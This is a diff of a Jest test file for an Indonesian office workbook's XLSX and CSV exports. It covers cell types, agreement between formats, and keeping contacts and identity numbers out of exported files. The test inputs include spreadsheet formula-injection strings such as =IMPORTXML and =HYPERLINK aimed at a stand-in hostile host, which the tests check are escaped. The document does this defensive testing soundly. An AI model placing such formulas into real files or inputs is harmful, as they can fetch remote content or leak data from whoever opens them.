@@ -1,5 +1,6 @@
 import papa from 'papaparse';
-import { unzipEntries } from '../../src/local/services/utilities/zip';
+import readXlsxFile from 'read-excel-file/node';
+import type { Office } from '../../src/local/office';
 import { callRpc, kasimanUnits, shownFigures, shownRows } from './kasiman';
 import { februaryOffice } from './letter-office';
 
@@ -8,25 +9,24 @@ jest.setTimeout(240_000);
 const february = { from: '2026-02', to: '2026-02' } as const;
 const parsed = (text: string, delimiter: string): string[][] =>
   papa.parse(text.replace(/^\ufeff/u, ''), { delimiter, skipEmptyLines: true }).data;
-const filesOf = (base64: string): Record<string, string> =>
-  Object.fromEntries(
-    unzipEntries(Buffer.from(base64, 'base64')).map(({ name, bytes }) => [
-      name,
-      Buffer.from(bytes).toString('utf8'),
-    ]),
+/** The XLSX file as another program reads it. */
+const opened = (office: Office, span = february) =>
+  readXlsxFile(
+    Buffer.from(callRpc(office, 'makeExport', { ...span, format: 'xlsx' }).content.data, 'base64'),
   );
-/** What a reader of the format finds in a sheet: text of text cells, numbers of number cells, by place. */
-const cellsOf = (sheet: string): Record<string, string | number> =>
-  Object.fromEntries(
-    [
-      ...sheet.matchAll(
-        /<c r="([A-Z]+\d+)" s="(\d)"(?: t="(\w+)")?>(?:<v>([^<]*)<\/v>|<is><t[^>]*>([^<]*)<\/t><\/is>)<\/c>/gu,
-      ),
-    ].map(([, place = '', , type, number, text = '']) => [
-      place,
-      type === 'inlineStr' ? text : Number(number),
-    ]),
-  );
+/** Dates as text; the reader gives them to the millisecond, which a fraction of a day is not. */
+const plain = (value: unknown): unknown =>
+  value instanceof Date
+    ? new Date(Math.round(value.getTime() / 1000) * 1000)
+        .toISOString()
+        .replace(/(?:T00:00:00)?\.000Z$/u, '')
+        .replace('T', ' ')
+    : value;
+/** The rows of the first sheet below its header, by header. */
+const recordsOf = ([sheet]: Awaited<ReturnType<typeof opened>>) => {
+  const [headers = [], ...rows] = sheet?.data ?? [];
+  return rows.map((row) => Object.fromEntries(headers.map((header, index) => [String(header), row[index]])));
+};
 
 describe('F36: what leaves the workbook as a file', () => {
   test.each([
@@ -96,39 +96,89 @@ describe('F36: what leaves the workbook as a file', () => {
     expect(shown['Sudah lapor']).toBe(`${count('terpenuhi', 'ya')} dari 9`);
   });
 
-  test('Excel gets every code as text, every count as a number, and nothing that runs', () => {
+  test('another program opens the Excel file: codes are texts with their dots, days are days, counts are numbers', async () => {
     const office = februaryOffice();
-    office.editAsUser('D2', '\'=HYPERLINK("http://jahat.example")', 'Dispensasi');
-    const file = callRpc(office, 'makeExport', { ...february, format: 'xlsx' });
-    const files = filesOf(file.content.data);
-    expect(Object.keys(files)).toEqual([
-      '[Content_Types].xml',
-      '_rels/.rels',
-      'xl/workbook.xml',
-      'xl/_rels/workbook.xml.rels',
-      'xl/styles.xml',
-      'xl/worksheets/sheet1.xml',
-    ]);
-    const sheet = files['xl/worksheets/sheet1.xml'] ?? '';
-    const cells = cellsOf(sheet);
-    expect(kasimanUnits.map((_, index) => cells[`C${index + 2}`])).toEqual(
-      kasimanUnits.map(({ code }) => code),
-    );
-    expect(cells.A2).toBe('35.22.20');
-    expect([cells.V8, cells.O6]).toEqual([2, 0]);
-    expect(sheet).not.toContain('<f>');
-    expect(files['xl/styles.xml']).toContain('<xf numFmtId="49"');
-    const csv = callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data;
-    expect(csv).not.toMatch(/(?:^|,)"?=/mu);
+    const sheets = await opened(office);
+    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Kepatuhan']);
+    const records = recordsOf(sheets);
+    const csv = parsed(callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data, ',');
+    expect(sheets[0]?.data[0]).toEqual(csv[0]);
+    expect(records.map(({ kode_wilayah: code }) => code)).toEqual(kasimanUnits.map(({ code }) => code));
+    expect(records[0]).toMatchObject({ kode_kantor: '35.22.20', kode_wilayah: '35.22.20.2001' });
+    const times = ['tenggat', 'diterima_pada'].map((header) => records[6]?.[header]);
+    expect(times.every((value) => value instanceof Date)).toBe(true);
+    expect(times.map(plain)).toEqual(['2026-03-05', '2026-03-07 10:00:00']);
+    expect(records[6]).toMatchObject({
+      kunci_periode: '2026-02',
+      wajib_lapor: 1,
+      hari_terlambat: 2,
+      terpenuhi: 'ya',
+      tanggal_rencana: null,
+    });
   });
 
-  test('no contact is in any file', () => {
+  test('Excel and CSV say the same, cell by cell', async () => {
     const office = februaryOffice();
+    const [sheet] = await opened(office);
+    const csv = parsed(
+      callRpc(office, 'makeExport', { ...february, format: 'csv-semicolon' }).content.data,
+      ';',
+    );
+    expect(sheet?.data.map((row) => row.map((value) => String(plain(value) ?? '')))).toEqual(csv);
+  });
+
+  test.each(['=IMPORTXML("http://jahat.example";"//a")', '@kades', 'a;b,"c"', '007', '11.10'])(
+    'a reason such as %s reaches Excel as that text, and CSV as text that does not run',
+    async (reason) => {
+      const office = februaryOffice();
+      office.editAsUser('D2', /^[=+\-@\d]/u.test(reason) ? `'${reason}` : reason, 'Dispensasi');
+      const besah = recordsOf(await opened(office))[4];
+      expect(besah?.alasan_dispensasi).toBe(reason);
+      for (const [format, delimiter] of [
+        ['csv-comma', ','],
+        ['csv-semicolon', ';'],
+      ] as const) {
+        const rows = parsed(callRpc(office, 'makeExport', { ...february, format }).content.data, delimiter);
+        const cell = rows[5]?.[(rows[0] ?? []).indexOf('alasan_dispensasi')];
+        expect(cell).toBe(/^[=+\-@]/u.test(reason) ? `'${reason}` : reason);
+        expect(rows.every((row) => row.length === rows[0]?.length)).toBe(true);
+      }
+    },
+  );
+
+  test('no contact and no identity number is in any file or letter, whatever reports and tabs hold', async () => {
+    const office = februaryOffice();
+    const numbers = [
+      '3522200101900001',
+      '3522 2001 0190 0002',
+      '352220 010190 0003',
+      '0812 9999 8888',
+      '+62812-9999-7777',
+    ];
+    const secret = `hubungi ${numbers.join(' / ')}, sekdes.rahasia@desa.example`;
     office.editAsUser('D2', 'sekdes.rahasia@desa.example', 'Kontak');
     office.editAsUser('E2', '0812 9999 8888', 'Kontak');
-    const { content } = callRpc(office, 'makeExport', { ...february, format: 'csv-comma' });
-    expect(content.data).not.toMatch(/rahasia|9999/u);
-    expect(callRpc(office, 'previewWallTable', { month: '2026-02' }).html).not.toMatch(/rahasia|9999/u);
+    office.editAsUser('D2', `Banjir, ${secret}`, 'Dispensasi');
+    office.editAsUser('G2', `lokasi kosong, ${secret}`, 'Kunjungan');
+    office.submitForm('Laporan Kerja Bakti', {
+      Desa: '35.22.20.2004 Sidomukti',
+      'Tanggal kegiatan': '2026-02-20',
+      'Apa yang dikerjakan?': ['Membersihkan lingkungan'],
+      'Jumlah warga yang hadir': '12',
+      'Tempat, perangkat yang hadir, hasil, dan kendala': `Tempat: ${secret}\nHasil: ${secret}\nKendala: ${secret}`,
+    });
+    const { draft } = callRpc(office, 'proposeLetter', { kind: 'monthly-report', month: '2026-02' });
+    const leaving = {
+      csv: callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data,
+      excel: JSON.stringify(await opened(office)),
+      wall: callRpc(office, 'previewWallTable', { month: '2026-02' }).html,
+      letter: callRpc(office, 'previewLetter', draft).html,
+    };
+    for (const [name, text] of Object.entries(leaving)) {
+      expect([name, text.match(/rahasia|9999|0190 ?000|\d{16}/gu)]).toEqual([name, null]);
+      expect(text).toMatch(/anjir, hubungi/u);
+    }
+    expect(leaving.letter).toMatch(/lokasi kosong, hubungi/u);
   });
 
   test('months turned around are refused with what to do', () => {
